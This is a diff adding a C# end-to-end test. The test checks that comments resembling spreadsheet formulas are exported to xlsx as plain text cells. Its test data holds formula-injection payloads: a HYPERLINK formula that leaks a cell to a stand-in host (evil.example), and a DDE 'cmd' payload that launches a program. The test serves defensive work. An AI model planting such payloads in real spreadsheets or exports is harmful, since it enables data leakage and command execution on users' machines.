@@ -162,4 +162,35 @@ public abstract partial class EndToEndTests
         Assert.DoesNotContain(",=HYPERLINK", line, StringComparison.Ordinal);
         Assert.Contains(",96.5,", line, StringComparison.Ordinal);
     }
+
+    [Fact]
+    public async Task Comments_that_look_like_formulas_are_exported_to_xlsx_as_text_cells_exactly_as_typed()
+    {
+        var (_, key) = await CreateKeyAsync("Formula feed xlsx", "write");
+        var comments = new Dictionary<string, string>
+        {
+            ["2025-02"] = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open report\")",
+            ["2025-03"] = "+1+cmd|' /C calc'!A0",
+            ["2025-04"] = "-2+3",
+            ["2025-05"] = "@SUM(1+1)",
+        };
+        foreach (var (period, comment) in comments)
+        {
+            var put = await Api(key).PutAsJsonAsync($"api/v1/kpis/seated-trucks/actuals/{period}", new { value = 96.5m, comment });
+            Assert.Equal(HttpStatusCode.OK, put.StatusCode);
+        }
+
+        var response = await Api(key).GetAsync("api/v1/export?format=xlsx&scorecard=fleet&from=2025-02&to=2025-05");
+
+        var sheet = XlsxSheet.Read(await response.Content.ReadAsByteArrayAsync(), "Actuals");
+        var rows = Enumerable.Range(2, sheet.RowCount - 1).Where(r => sheet.Cell(r, 4).Text == "seated-trucks").ToList();
+        Assert.Equal(4, rows.Count);
+        foreach (var row in rows)
+        {
+            var cell = sheet.Cell(row, 14);
+            Assert.Equal(comments[sheet.Cell(row, 8).Text], cell.Text);
+            Assert.False(cell.IsFormula, $"the comment of {sheet.Cell(row, 8).Text} was written as a formula");
+            Assert.True(cell.Kind == DocumentFormat.OpenXml.Spreadsheet.CellValues.InlineString || cell.Kind == DocumentFormat.OpenXml.Spreadsheet.CellValues.SharedString, $"the comment of {sheet.Cell(row, 8).Text} is not a text cell");
+        }
+    }
 }
